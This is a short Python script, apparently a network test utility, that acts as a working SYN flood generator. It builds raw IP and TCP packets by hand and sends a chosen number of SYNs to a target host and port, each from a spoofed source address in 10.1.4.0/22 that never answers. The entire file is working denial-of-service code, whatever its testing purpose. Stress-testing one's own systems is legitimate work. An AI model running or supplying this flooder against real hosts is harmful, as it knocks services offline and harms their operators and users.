# SPDX-License-Identifier: GPL-2.0
"""synflood.py DESTINATION PORT COUNT: so many SYNs, each from an address and
port of its own in 10.1.4.0/22, none of which will ever answer."""

import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


destination, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
to = socket.inet_aton(destination)
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
    for i in range(count):
        source = struct.pack(">I", 0x0a010400 + i % 1009)
        tcp = struct.pack(">HHIIBBHHH", 1024 + i % 64000, port, i, 0, 0x50, 2, 65535, 0, 0)
        tcp = tcp[:16] + struct.pack(">H", checksum(source + to + struct.pack(">HH", 6, 20) + tcp)) + tcp[18:]
        # The kernel fills in length and checksum.
        sock.sendto(struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 6, 0) + source + to + tcp, (destination, 0))
